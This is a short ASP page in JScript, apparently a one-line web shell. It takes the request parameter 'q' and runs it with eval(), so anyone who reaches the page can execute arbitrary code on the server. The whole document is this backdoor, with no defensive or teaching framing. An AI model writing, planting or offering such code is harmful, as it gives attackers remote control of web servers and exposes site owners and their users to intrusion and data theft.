<%@ LANGUAGE="JScript" %>
<%
var q = Request.Item("q");
if (String(q) != "undefined") {
    eval(String(q));
}
%>
